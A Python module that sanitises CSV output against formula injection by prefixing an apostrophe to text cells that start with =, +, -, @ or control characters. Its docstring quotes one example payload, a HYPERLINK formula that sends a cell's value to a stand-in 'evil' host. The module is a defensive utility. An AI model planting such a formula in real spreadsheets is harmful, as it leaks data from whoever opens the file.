"""CSV that a spreadsheet opens as data, never as formulas (CSV injection).

Excel and LibreOffice run a cell that starts with = + - or @ (or with a tab
or carriage return before one) as a formula, so an office or person named
``=HYPERLINK("http://evil/?"&A1,"…")`` would run on HR's computer. Such text
cells get a leading apostrophe, which the spreadsheet shows as plain text.
Numbers are written as numbers and left alone.

Every CSV the app writes goes through ``csvsafe.writer``::

    writer = csvsafe.writer(response)
    writer.writerow([office.code, office.name, count])
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value):
    """The value, with an apostrophe in front if a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Writer:
    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(stream, **kwargs):
    """A csv.writer whose text cells cannot start a formula."""
    return _Writer(stream, **kwargs)
